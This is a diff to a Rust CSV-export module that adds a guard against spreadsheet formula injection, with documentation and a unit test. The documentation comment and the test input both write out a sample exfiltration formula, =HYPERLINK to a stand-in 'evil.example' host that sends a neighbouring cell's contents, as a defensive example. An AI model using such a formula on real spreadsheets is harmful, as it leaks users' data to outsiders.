@@ -12,7 +12,22 @@
 //!
 //! Every table starts with the session id, so tables of many sessions can be
 //! concatenated and joined.
+//!
+//! # Cells that would start a formula
+//!
+//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab
+//! or carriage return before one) as a formula and runs it: a problem titled
+//! `=HYPERLINK("http://evil.example/?"&B2,"x")` would send the next cell to
+//! anyone who clicks it. So, as OWASP advises for CSV injection, such cells
+//! get a leading `'`: spreadsheets show the text as typed, and other readers
+//! get it back with the `'` in front ([`guard`]). Every cell is checked, so
+//! no field typed by people (titles, categories, places, causes, group
+//! names, activities, notes, reasons…) can be missed; the cells we write
+//! ourselves (counts, ranks, scores, dates, times, yes/no, labels) never
+//! start with one of those characters (no negative number occurs in them),
+//! so they are never changed.
 
+use std::borrow::Cow;
 use std::collections::HashMap;
 
 use super::{Options, prepared, responsible_type};
@@ -91,7 +106,21 @@ impl Default for CsvOptions {
     }
 }
 
-/// Writes `rows` under `header` as CSV bytes.
+/// What makes a spreadsheet read a cell as a formula when the cell starts
+/// with it.
+pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `cell` as it is written to CSV: with a leading `'` when it would start a
+/// formula (see the module documentation), else unchanged.
+pub fn guard(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// Writes `rows` under `header` as CSV bytes, every cell [`guard`]ed.
 pub fn write_rows(header: &[String], rows: &[Vec<String>], csv_options: CsvOptions) -> Vec<u8> {
     let mut bytes = Vec::with_capacity(64 * (rows.len() + 1));
     if csv_options.bom {
@@ -102,9 +131,11 @@ pub fn write_rows(header: &[String], rows: &[Vec<String>], csv_options: CsvOptio
         .flexible(false)
         .from_writer(bytes);
     // Writing to a Vec cannot fail, and every row has the header's length.
-    w.write_record(header).expect("writing to memory");
+    let guarded =
+        |row: &[String]| -> Vec<String> { row.iter().map(|c| guard(c).into_owned()).collect() };
+    w.write_record(guarded(header)).expect("writing to memory");
     for row in rows {
-        w.write_record(row).expect("writing to memory");
+        w.write_record(guarded(row)).expect("writing to memory");
     }
     w.into_inner().expect("writing to memory")
 }
@@ -519,4 +550,39 @@ fn problems(s: &Session) -> (Vec<String>, Vec<Vec<String>>) {
 
 fn yes_no(b: bool) -> String {
     if b { "yes" } else { "no" }.into()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_that_would_start_a_formula_get_a_leading_quote() {
+        for cell in [
+            "=1+1",
+            "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
+            "+254 712 345678",
+            "-3",
+            "- a list",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(guard(cell), format!("'{cell}"), "{cell:?}");
+        }
+        for cell in [
+            "",
+            "3",
+            "0.5000",
+            "2026-01-12",
+            "2026-01-03T09:01:00+03:00",
+            "a = b",
+            " =1",
+            "'=1",
+            "خلاف",
+            "yes",
+        ] {
+            assert!(matches!(guard(cell), Cow::Borrowed(_)), "{cell:?}");
+        }
+    }
 }
